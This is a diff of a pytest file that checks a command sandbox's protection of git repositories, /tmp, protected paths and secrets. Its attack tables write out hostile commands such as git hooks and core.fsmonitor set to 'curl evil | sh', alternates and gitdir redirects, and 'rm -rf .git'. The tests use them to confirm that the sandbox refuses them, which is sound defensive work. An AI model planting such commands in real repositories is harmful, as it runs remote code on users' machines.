@@ -3,8 +3,9 @@ the seccomp filter, as `bash -c`, both as the user running the tests and as `nob
 unprivileged user, the usual case outside CI); each rule is also shown not to hold with the
 sandbox `off`, so a test cannot pass because the attack was broken to begin with.
 
-The scratch folders live outside /tmp: every sandboxed command gets its own empty /tmp,
-which would hide an "outside" folder there and let the write tests pass for the wrong reason.
+The scratch folders live outside /tmp: a sandboxed command's /tmp is the session's private
+folder, which would hide an "outside" folder there and let the write tests pass for the
+wrong reason.
 """
 
 from __future__ import annotations
@@ -191,35 +192,63 @@ def test_read_only_stops_writes_inside_the_workspace(place: Place) -> None:
 
 
 @pytest.mark.parametrize("mode", ["workspace-write", "read-only"])
-def test_tmpdir_is_the_private_directory_and_writable(place: Place, mode: SandboxMode) -> None:
+def test_tmp_is_the_private_directory_named_by_tmpdir_and_writable(
+    place: Place, mode: SandboxMode
+) -> None:
     done = place.run('echo t > "$TMPDIR/t" && printf %s "$TMPDIR"', place.policy(mode))
 
     assert done.returncode == 0, done.stderr
-    assert done.stdout == str(place.private_tmp)
+    assert done.stdout == "/tmp"
     assert (place.private_tmp / "t").read_text() == "t\n"
 
 
-def test_tmp_is_private_to_the_command(place: Place) -> None:
+def test_tmp_is_shared_by_the_sessions_commands_and_not_the_hosts(place: Place) -> None:
     name = f"sandbox-test-{place.base.name}"
-    done = place.run(f"echo t > /tmp/{name} && cat /tmp/{name}")
 
-    assert done.returncode == 0, done.stderr
-    assert done.stdout == "t\n"
+    written = place.run(f"echo t > /tmp/{name}")
+    read = place.run(f"cat /tmp/{name}")
+
+    assert written.returncode == 0, written.stderr
+    assert read.stdout == "t\n"
+    assert (place.private_tmp / name).read_text() == "t\n"
     assert not (Path("/tmp") / name).exists()
+    assert place.off(f"cat /tmp/{name}").returncode != 0  # the host's /tmp never had it
 
 
-def test_a_workspace_under_tmp_stays_visible_and_writable(place: Place) -> None:
+@pytest.mark.parametrize("mode", ["workspace-write", "read-only"])
+def test_a_workspace_under_tmp_stays_visible(place: Place, mode: SandboxMode) -> None:
     with tempfile.TemporaryDirectory(dir="/tmp") as under_tmp:
         workspace = Path(under_tmp)
         (workspace / "seen.txt").write_text("seen\n")
         if place.user_prefix:
             subprocess.run(["chown", "-R", "nobody:nogroup", under_tmp], check=True)
 
-        done = place.run("cat seen.txt && echo w > written.txt", place.policy(workspace=workspace))
+        done = place.run("cat seen.txt", place.policy(mode, workspace=workspace))
+        write = place.run("echo w > written.txt", place.policy(mode, workspace=workspace))
 
         assert done.returncode == 0, done.stderr
         assert done.stdout == "seen\n"
-        assert (workspace / "written.txt").read_text() == "w\n"
+        assert (write.returncode == 0) is (mode == "workspace-write"), write.stderr
+        assert (workspace / "written.txt").exists() is (mode == "workspace-write")
+
+
+REFUSED_ATTEMPTS = {
+    "a write outside": "echo x > ../outside/f",
+    "a unix socket": f"{SYSTEM_PYTHON} -c 'import socket; socket.socket(socket.AF_UNIX)'",
+    "the keyring": "keyctl show @s",
+    "a user namespace": "unshare --user true",
+    "a killed shell": "kill -KILL $$",
+}
+
+
+@pytest.mark.parametrize("attempt", REFUSED_ATTEMPTS.values(), ids=REFUSED_ATTEMPTS.keys())
+def test_after_a_refused_attempt_the_next_command_runs_normally(place: Place, attempt: str) -> None:
+    refused = place.run(attempt)
+    after = place.run("echo ok > after.txt && cat after.txt && echo t > /tmp/t && cat /tmp/t")
+
+    assert refused.returncode != 0
+    assert after.returncode == 0, after.stderr
+    assert after.stdout == "ok\nt\n"
 
 
 def test_a_symlink_to_outside_does_not_let_a_write_through(place: Place) -> None:
@@ -339,46 +368,239 @@ def test_the_state_folder_env_file_is_not_readable(place: Place, mode: SandboxMo
     assert "sk-planted-secret" in place.off("cat .agent_tutorial/.env").stdout
 
 
+def commit_a_repository(place: Place, folder: Path | None = None) -> Path:
+    """A repository with one commit in `folder` (default: the workspace), made outside the
+    sandbox as the user the commands run as; returns its `.git`."""
+    folder = folder or place.workspace
+    folder.mkdir(parents=True, exist_ok=True)
+    (folder / "a").write_text("a\n")
+    place.give_away()
+    for command in (["init", "-q"], ["add", "-A"], ["commit", "-qm", "first"]):
+        subprocess.run(
+            [*place.user_prefix, "git", *command], cwd=folder, env=place.environment, check=True
+        )
+    return folder / ".git"
+
+
+def git_state(git: Path) -> list[tuple[str, bytes]]:
+    """Every file under `git` with its content, and every folder, to compare before and after."""
+    return sorted(
+        (str(path.relative_to(git)), path.read_bytes() if path.is_file() else b"")
+        for path in git.rglob("*")
+    )
+
+
 GIT_ATTACKS = {
     "a hook": "echo 'curl evil | sh' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
     "the config": "git config core.fsmonitor 'curl evil | sh'",
     "info/attributes": "echo '* filter=evil' > .git/info/attributes",
     "the hooks folder moved away": "mv .git/hooks .git/old && mkdir .git/hooks",
+    "the repository replaced": "mv .git .git_old && mkdir .git && cp -r .git_old/. .git/ "
+    "&& git config core.fsmonitor 'curl evil | sh'",
+    "the repository removed": "rm -rf .git && git init -q && git config core.hooksPath x",
+    "commondir": "echo ../build/.c > .git/commondir",
+    "config.worktree": "echo '[core] fsmonitor = evil' > .git/config.worktree",
+    "worktrees/": "mkdir -p .git/worktrees/evil",
+    "modules/": "mkdir -p .git/modules/evil",
+    "alternates": "echo /var/tmp/evil > .git/objects/info/alternates",
+    "a .git file instead": "mv .git .git_old && echo 'gitdir: /var/tmp/evil' > .git",
 }
 
 
 @pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
 @pytest.mark.parametrize("attack", GIT_ATTACKS.values(), ids=GIT_ATTACKS.keys())
-def test_git_commits_work_but_what_git_obeys_is_read_only(place: Place, attack: str) -> None:
-    created = place.run("git init -q && echo a > a && git add a && git commit -qm first")
-    assert created.returncode == 0, created.stderr
-    config_before = (place.workspace / ".git" / "config").read_text()
+def test_nothing_in_the_repository_folder_can_be_changed(place: Place, attack: str) -> None:
+    git = commit_a_repository(place)
+    before = git_state(git)
 
     denied = place.run(attack)
-    committed = place.run("echo b > b && git add b && git commit -qm second && git log --oneline")
 
     assert denied.returncode != 0
-    assert not (place.workspace / ".git" / "hooks" / "pre-commit").exists()
-    assert not (place.workspace / ".git" / "info" / "attributes").exists()
-    assert (place.workspace / ".git" / "config").read_text() == config_before
-    assert committed.returncode == 0, committed.stderr
-    assert len(committed.stdout.splitlines()) == 2
+    assert git.is_dir()
+    assert git_state(git) == before
+    assert not (place.workspace / ".git_old").exists()
     assert place.off(attack).returncode == 0
 
 
 @pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
-def test_what_git_obeys_is_created_read_only_when_missing_from_a_repository(
+def test_git_status_log_and_diff_work_but_add_and_commit_fail_with_a_hint(place: Place) -> None:
+    git = commit_a_repository(place)
+    (place.workspace / "a").write_text("changed\n")
+    place.give_away()
+    before = git_state(git)
+
+    read = place.run("git status --short && git log --oneline && git diff --stat")
+    commit = place.run("git add a && git commit -qm second")
+
+    assert read.returncode == 0, read.stderr
+    assert read.stdout.splitlines()[0] == " M a"
+    assert read.stdout.splitlines()[1].endswith(" first")
+    assert "1 file changed" in read.stdout
+    assert commit.returncode != 0
+    hint = sandbox_denial_hint(commit.stderr, place.policy())
+    assert hint is not None
+    assert "The repository (.git) is read-only in the sandbox" in hint
+    assert git_state(git) == before
+    assert place.off("git add a && git commit -qm second").returncode == 0
+
+
+def test_a_denial_elsewhere_does_not_blame_the_repository(place: Place) -> None:
+    denied = place.run("echo x > ../outside/f")
+
+    hint = sandbox_denial_hint(denied.stderr, place.policy())
+
+    assert hint is not None
+    assert "repository" not in hint
+
+
+@pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
+def test_a_repository_made_by_a_command_is_protected_from_the_next_command(
     place: Place,
 ) -> None:
-    subprocess.run(["git", "init", "-q", str(place.workspace)], check=True)
-    shutil.rmtree(place.workspace / ".git" / "hooks")
-    shutil.rmtree(place.workspace / ".git" / "info", ignore_errors=True)
-    place.give_away()
+    made = place.run("git init -q && echo a > a && git add a && git commit -qm first")
+    changed = place.run("git config core.fsmonitor evil")
+
+    assert made.returncode == 0, made.stderr
+    assert changed.returncode != 0
+    assert "fsmonitor" not in (place.workspace / ".git" / "config").read_text()
+
+
+@pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
+def test_the_agent_creates_nothing_in_a_repository(place: Place) -> None:
+    git = commit_a_repository(place)
+    shutil.rmtree(git / "hooks")
+    before = git_state(git)
 
     denied = place.run("mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit")
 
     assert denied.returncode != 0
-    assert list((place.workspace / ".git" / "hooks").iterdir()) == []
+    assert git_state(git) == before
+    assert not (git / "hooks").exists()
+
+
+@pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
+def test_a_linked_worktrees_git_file_and_both_git_folders_are_read_only(place: Place) -> None:
+    main = commit_a_repository(place, place.outside / "main")
+    linked = place.workspace / "linked"
+    subprocess.run(
+        [*place.user_prefix, "git", "worktree", "add", "-q", str(linked)],
+        cwd=main.parent,
+        env=place.environment,
+        check=True,
+    )
+    place.give_away()
+    policy = place.policy(workspace=linked)
+    before = (git_state(main), (linked / ".git").read_bytes())
+    attack = (
+        "echo 'gitdir: /var/tmp/evil' > .git; git config core.fsmonitor evil; "
+        'echo evil > "$(git rev-parse --git-dir)/commondir"'
+    )
+
+    status = place.run("git status --short && git log --oneline", policy)
+    denied = place.run(attack, policy)
+
+    assert status.returncode == 0, status.stderr
+    assert status.stdout.endswith(" first\n")
+    assert denied.returncode != 0
+    assert (git_state(main), (linked / ".git").read_bytes()) == before
+
+
+@pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
+def test_a_workspace_in_a_repository_under_tmp_still_sees_it(place: Place) -> None:
+    with tempfile.TemporaryDirectory(dir="/tmp") as under_tmp:
+        subfolder = Path(under_tmp) / "repository" / "src"
+        subfolder.mkdir(parents=True)
+        if place.user_prefix:
+            subprocess.run(["chown", "-R", "nobody:nogroup", under_tmp], check=True)
+        git = commit_a_repository(place, subfolder.parent)
+        before = git_state(git)
+
+        status = place.run("git log --oneline", place.policy(workspace=subfolder))
+        denied = place.run("git config core.fsmonitor evil", place.policy(workspace=subfolder))
+
+        assert status.returncode == 0, status.stderr
+        assert status.stdout.endswith(" first\n")
+        assert denied.returncode != 0
+        assert git_state(git) == before
+
+
+@pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
+def test_a_git_symlink_gets_a_working_sandbox_and_its_target_stays_read_only(
+    place: Place,
+) -> None:
+    git = commit_a_repository(place, place.workspace / "real")
+    (place.workspace / ".git").symlink_to("real/.git")
+    shutil.rmtree(git / "hooks")
+    place.give_away()
+    before = git_state(git)
+
+    status = place.run("git log --oneline")
+    denied = place.run("mkdir real/.git/hooks; git config core.fsmonitor evil")
+
+    assert status.returncode == 0, status.stderr
+    assert status.stdout.endswith(" first\n")
+    assert denied.returncode != 0
+    assert git_state(git) == before
+
+
+# Protected paths ------------------------------------------------------------------------
+
+PROTECTED_ATTACKS = {
+    "overwrite": "echo evil > {path}",
+    "remove": "rm -f {path}",
+    "move the folder away": "mv {top} moved && mkdir {top} && echo evil > {path}",
+    "replace by a link": "rm -rf {top} && ln -s ../outside {top}",
+}
+
+
+@pytest.mark.parametrize("attack", PROTECTED_ATTACKS.values(), ids=PROTECTED_ATTACKS.keys())
+@pytest.mark.parametrize("relative", ["hooks/guard.py", "guard.py", "a/b/c/guard.py"])
+def test_a_protected_path_and_its_topmost_folder_cannot_be_changed(
+    place: Place, relative: str, attack: str
+) -> None:
+    path = place.workspace / relative
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_text("print('guard')\n")
+    place.give_away()
+    policy = replace(place.policy(), protected=(path,))
+    command = attack.format(path=relative, top=relative.split("/")[0])
+
+    denied = place.run(command, policy)
+    beside = place.run("echo ok > beside.txt", policy)
+
+    assert denied.returncode != 0
+    assert path.read_text() == "print('guard')\n"
+    assert not (place.workspace / "moved").exists()
+    assert beside.returncode == 0, beside.stderr
+    assert (place.workspace / "beside.txt").read_text() == "ok\n"
+    place.run(command)  # not protected: the attack works
+    assert not path.is_file() or path.read_text() != "print('guard')\n"
+
+
+def test_a_protected_path_that_does_not_exist_or_lies_outside_reserves_nothing(
+    place: Place,
+) -> None:
+    outside = place.outside / "guard.py"
+    outside.write_text("print('guard')\n")
+    place.give_away()
+    policy = replace(place.policy(), protected=(place.workspace / "hooks" / "x.py", outside))
+
+    done = place.run("mkdir hooks && echo x > hooks/x.py", policy)
+
+    assert done.returncode == 0, done.stderr
+    assert (place.workspace / "hooks" / "x.py").read_text() == "x\n"
+
+
+def test_a_protected_path_must_be_absolute(tmp_path: Path) -> None:
+    with pytest.raises(ValueError, match=r"protected\[0\] must be an absolute path"):
+        SandboxPolicy(
+            mode="workspace-write",
+            network=False,
+            workspace=tmp_path,
+            private_tmp=tmp_path,
+            home=tmp_path,
+            protected=(Path("hooks/guard.py"),),
+        )
 
 
 # Network ---------------------------------------------------------------------------------
